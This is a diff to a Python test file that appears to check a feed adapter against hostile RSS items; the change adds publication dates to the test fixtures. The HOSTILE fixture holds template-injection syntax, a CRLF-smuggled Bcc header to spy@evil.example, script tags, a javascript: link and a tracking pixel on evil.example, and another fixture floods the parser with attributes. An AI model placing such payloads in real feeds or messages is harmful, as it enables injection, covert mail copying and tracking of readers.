@@ -9,6 +9,7 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from email import message_from_bytes, policy
+from email.utils import formatdate
 from pathlib import Path
 
 import pytest
@@ -21,11 +22,12 @@ BATTERY = Path(__file__).parents[3] / "shared" / "battery"
 
 beside = pytest.mark.skipif(not BATTERY.is_dir(), reason="no hostile battery stands beside this checkout")
 
-CONTROL = rss("<item><title>A council meets on AI</title><link>https://control.example/1</link></item>")
+NOW = f"<pubDate>{formatdate()}</pubDate>"  # the adapter goes by the clock that an operator has
+CONTROL = rss(f"<item><title>A council meets on AI</title><link>https://control.example/1</link>{NOW}</item>")
 HOSTILE = rss(
     "<item><title>Top {{ 7 * 6 }}&#13;&#10;Bcc: spy@evil.example &lt;script&gt;run()&lt;/script&gt;</title>"
     "<link>javascript:run()</link><description>&lt;img src='https://evil.example/pixel'&gt;Told."
-    "</description></item>"
+    f"</description>{NOW}</item>"
 )
 ENDLESS = b"<rss><channel>" + b"<item " + b" ".join(b"a%d='1'" % number for number in range(20_000))
 
